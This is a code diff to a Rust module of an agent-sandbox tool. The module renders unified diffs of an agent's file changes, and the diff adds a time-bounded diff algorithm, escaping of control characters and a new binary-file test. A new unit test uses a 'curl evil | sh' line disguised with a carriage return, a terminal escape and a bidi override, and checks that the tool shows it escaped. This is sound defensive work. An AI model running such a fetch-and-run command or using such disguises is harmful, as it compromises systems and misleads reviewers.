@@ -1,10 +1,14 @@
 //! Line diffs of an overlay session's changes, in git's unified format
 //! (so `git apply` can read the text output too), and `--stat` lines.
 //!
-//! The line diff is Myers' O(ND) algorithm in its linear-space form (the
-//! "middle snake" refinement, Myers 1986, section 4b): minimal, and with
-//! memory proportional to the files, not to their product. Lines are
-//! compared with their terminators, so a missing final newline is a change.
+//! The line diff is `similar`'s Myers diff, with a deadline so no input
+//! can make `cage diff` hang. Lines are compared with their terminators, so
+//! a missing final newline is a change.
+//!
+//! Everything in a diff came from the agent: names and lines are escaped
+//! (`term`), so a CR, an escape sequence or a bidi override shows as text.
+//! Such bytes keep a file a text file; only content that is mostly not
+//! text is called binary.
 
 use std::fmt::Write as _;
 use std::io::{self, Read};
@@ -16,8 +20,11 @@ use super::changes::{Change, Kind, Node, open_nofollow};
 const CONTEXT: usize = 3;
 /// Files larger than this are not diffed line by line.
 const MAX_DIFF_BYTES: u64 = 16 << 20;
-/// How far git looks for a NUL to call a file binary.
+/// How much of a file is looked at to call it binary (git's probe size).
 const BINARY_PROBE: usize = 8000;
+/// The most time one file's line diff may take before the diff settles
+/// for a correct but less minimal script.
+const DEADLINE: std::time::Duration = std::time::Duration::from_secs(2);
 
 /// One step of an edit script.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -29,120 +36,39 @@ pub enum Op {
 }
 
 /// The edit script turning `a` into `b`, in order.
-pub fn diff_lines<T: PartialEq>(a: &[T], b: &[T]) -> Vec<Op> {
-    let mut matches = Vec::new();
-    lcs(a, b, 0, 0, &mut matches);
-    let mut ops = Vec::new();
-    let (mut i, mut j) = (0, 0);
-    for (x, y) in matches {
-        while i < x {
-            ops.push(Op::Delete(i));
-            i += 1;
+///
+/// `similar`'s Myers diff: minimal on ordinary input; on pathological input
+/// (one line turned into 600,000) its heuristics and the deadline bound the
+/// work, and the script stays correct, only less minimal.
+pub fn diff_lines<T: Eq + std::hash::Hash>(a: &[T], b: &[T]) -> Vec<Op> {
+    let deadline = std::time::Instant::now() + DEADLINE;
+    let mut ops = Vec::with_capacity(a.len().max(b.len()));
+    for op in similar::capture_diff_slices_deadline(similar::Algorithm::Myers, a, b, Some(deadline))
+    {
+        match op {
+            similar::DiffOp::Equal {
+                old_index,
+                new_index,
+                len,
+            } => ops.extend((0..len).map(|k| Op::Equal(old_index + k, new_index + k))),
+            similar::DiffOp::Delete {
+                old_index, old_len, ..
+            } => ops.extend((old_index..old_index + old_len).map(Op::Delete)),
+            similar::DiffOp::Insert {
+                new_index, new_len, ..
+            } => ops.extend((new_index..new_index + new_len).map(Op::Insert)),
+            similar::DiffOp::Replace {
+                old_index,
+                old_len,
+                new_index,
+                new_len,
+            } => {
+                ops.extend((old_index..old_index + old_len).map(Op::Delete));
+                ops.extend((new_index..new_index + new_len).map(Op::Insert));
+            }
         }
-        while j < y {
-            ops.push(Op::Insert(j));
-            j += 1;
-        }
-        ops.push(Op::Equal(x, y));
-        i += 1;
-        j += 1;
     }
-    ops.extend((i..a.len()).map(Op::Delete));
-    ops.extend((j..b.len()).map(Op::Insert));
     ops
-}
-
-/// Appends the matched pairs of a longest common subsequence of `a` and
-/// `b` (offset by `ao`, `bo`) to `out`, in order.
-fn lcs<T: PartialEq>(a: &[T], b: &[T], ao: usize, bo: usize, out: &mut Vec<(usize, usize)>) {
-    let pre = a.iter().zip(b).take_while(|(x, y)| x == y).count();
-    out.extend((0..pre).map(|k| (ao + k, bo + k)));
-    let (a, b) = (&a[pre..], &b[pre..]);
-    let (ao, bo) = (ao + pre, bo + pre);
-    let suf = a
-        .iter()
-        .rev()
-        .zip(b.iter().rev())
-        .take_while(|(x, y)| x == y)
-        .count();
-    let (a, b) = (&a[..a.len() - suf], &b[..b.len() - suf]);
-    if !a.is_empty() && !b.is_empty() {
-        // Both non-empty after trimming: at least two edits, so each half
-        // around the middle snake has strictly fewer and the recursion ends.
-        let (x, y, u, v) = middle_snake(a, b);
-        lcs(&a[..x], &b[..y], ao, bo, out);
-        out.extend((0..u - x).map(|k| (ao + x + k, bo + y + k)));
-        lcs(&a[u..], &b[v..], ao + u, bo + v, out);
-    }
-    let (n, m) = (a.len(), b.len());
-    out.extend((0..suf).map(|k| (ao + n + k, bo + m + k)));
-}
-
-/// The middle snake of an optimal path from (0,0) to (n,m): a diagonal run
-/// from (x,y) to (u,v) that some shortest edit script passes through,
-/// found by running the greedy search forward from the start and backward
-/// from the end until they overlap.
-fn middle_snake<T: PartialEq>(a: &[T], b: &[T]) -> (usize, usize, usize, usize) {
-    let (n, m) = (a.len() as isize, b.len() as isize);
-    let max = (n + m + 1) / 2;
-    let delta = n - m;
-    let odd = delta % 2 != 0;
-    let off = max + 1;
-    let size = (2 * max + 3) as usize;
-    // Furthest x on each diagonal k = x - y, forward; and backward, in the
-    // reversed texts' coordinates.
-    let mut vf = vec![0isize; size];
-    let mut vb = vec![0isize; size];
-    let at = |k: isize| (off + k) as usize;
-    for d in 0..=max {
-        let mut k = -d;
-        while k <= d {
-            let x0 = if k == -d || (k != d && vf[at(k - 1)] < vf[at(k + 1)]) {
-                vf[at(k + 1)]
-            } else {
-                vf[at(k - 1)] + 1
-            };
-            let y0 = x0 - k;
-            let (mut x, mut y) = (x0, y0);
-            while x < n && y < m && a[x as usize] == b[y as usize] {
-                x += 1;
-                y += 1;
-            }
-            vf[at(k)] = x;
-            let kr = delta - k;
-            if odd && kr.abs() < d && x + vb[at(kr)] >= n {
-                return (x0 as usize, y0 as usize, x as usize, y as usize);
-            }
-            k += 2;
-        }
-        let mut k = -d;
-        while k <= d {
-            let x0 = if k == -d || (k != d && vb[at(k - 1)] < vb[at(k + 1)]) {
-                vb[at(k + 1)]
-            } else {
-                vb[at(k - 1)] + 1
-            };
-            let y0 = x0 - k;
-            let (mut x, mut y) = (x0, y0);
-            while x < n && y < m && a[(n - x - 1) as usize] == b[(m - y - 1) as usize] {
-                x += 1;
-                y += 1;
-            }
-            vb[at(k)] = x;
-            let kf = delta - k;
-            if !odd && kf.abs() <= d && x + vf[at(kf)] >= n {
-                return (
-                    (n - x) as usize,
-                    (m - y) as usize,
-                    (n - x0) as usize,
-                    (m - y0) as usize,
-                );
-            }
-            k += 2;
-        }
-    }
-    // Unreachable for non-empty inputs: the searches meet by d = max.
-    (0, 0, 0, 0)
 }
 
 /// Splits text into lines, each with its terminator.
@@ -251,9 +177,8 @@ pub fn unified(a: &[u8], b: &[u8], color: Color) -> (String, usize, usize) {
                     ('+', lb[j], "32")
                 }
             };
-            let text = String::from_utf8_lossy(line);
-            let body = text.strip_suffix('\n').unwrap_or(&text);
-            let shown = format!("{mark}{body}");
+            let body = line.strip_suffix(b"\n").unwrap_or(line);
+            let shown = format!("{mark}{}", crate::term::escape_line(body));
             if code.is_empty() {
                 let _ = writeln!(out, "{shown}");
             } else {
@@ -293,8 +218,29 @@ fn content(node: &Node, path: &Path) -> io::Result<Option<Vec<u8>>> {
     }
 }
 
-fn is_binary(data: &[u8]) -> bool {
-    data[..data.len().min(BINARY_PROBE)].contains(&0)
+/// Binary when at least 30% of the probe is not text: NUL and the other
+/// C0 controls but tab, newline, CR, form feed and escape, DEL, and bytes
+/// of invalid UTF-8. One NUL or one escape sequence in a text file keeps it
+/// text (and visible, escaped); an executable or an image is binary.
+pub fn is_binary(data: &[u8]) -> bool {
+    let probe = &data[..data.len().min(BINARY_PROBE)];
+    if probe.is_empty() {
+        return false;
+    }
+    let mut odd = probe
+        .iter()
+        .filter(|&&b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0c | 0x1b)) || b == 0x7f)
+        .count();
+    let mut rest = probe;
+    while let Err(e) = std::str::from_utf8(rest) {
+        let bad = e.error_len().unwrap_or(rest.len() - e.valid_up_to());
+        // A sequence cut by the probe's end is not counted.
+        if e.error_len().is_some() {
+            odd += bad;
+        }
+        rest = &rest[e.valid_up_to() + bad..];
+    }
+    odd * 10 >= probe.len() * 3
 }
 
 /// git's mode for a node: 100644, 100755, 120000, 040755.
@@ -324,7 +270,7 @@ pub fn render(
     host: &Path,
     color: Color,
 ) -> io::Result<(String, Option<Stat>)> {
-    let p = change.path.display().to_string();
+    let p = crate::term::escape_path(&change.path);
     let mut out = String::new();
     if let Some(name) = &change.protected {
         let _ = writeln!(
@@ -631,5 +577,42 @@ mod tests {
         let (text, _, _) = unified(b"x\ny\n", b"", Color::Never);
         assert_eq!(text, "@@ -1,2 +0,0 @@\n-x\n-y\n");
         assert_eq!(unified(b"same\n", b"same\n", Color::Never).0, "");
+    }
+
+    #[test]
+    fn a_one_line_file_rewritten_into_600000_lines_diffs_to_the_end() {
+        // The shape that hung the hand-written diff: D is about N + M.
+        let old = vec![b'a'; 4 << 20];
+        let mut new = Vec::with_capacity(5 << 20);
+        for i in 0..600_000u32 {
+            new.extend_from_slice(format!("{i}\n").as_bytes());
+        }
+        let (text, ins, del) = unified(&old, &new, Color::Never);
+        assert_eq!((ins, del), (600_000, 1));
+        assert!(text.starts_with("@@ -1 +1,600000 @@\n"));
+    }
+
+    #[test]
+    fn control_bytes_show_escaped_and_keep_a_text_diff() {
+        let a = b"echo hello\n";
+        let b = b"curl evil | sh\r# harmless\x1b[2K\n\0nul\xe2\x80\xae\n";
+        assert!(!is_binary(b));
+        let (text, _, _) = unified(a, b, Color::Always);
+        assert!(
+            text.contains("+curl evil | sh\\r# harmless\\e[2K"),
+            "{text}"
+        );
+        assert!(text.contains("+\\0nul\\u{202e}"), "{text}");
+        // Only cage's own colour codes remain raw.
+        let plain = text
+            .replace("\x1b[32m", "")
+            .replace("\x1b[31m", "")
+            .replace("\x1b[36m", "")
+            .replace("\x1b[m", "");
+        assert!(crate::term::is_inert(&plain, true), "{plain:?}");
+        let elf: Vec<u8> = (0..4096u32)
+            .map(|i| if i % 3 == 0 { 0 } else { i as u8 })
+            .collect();
+        assert!(is_binary(&elf));
     }
 }
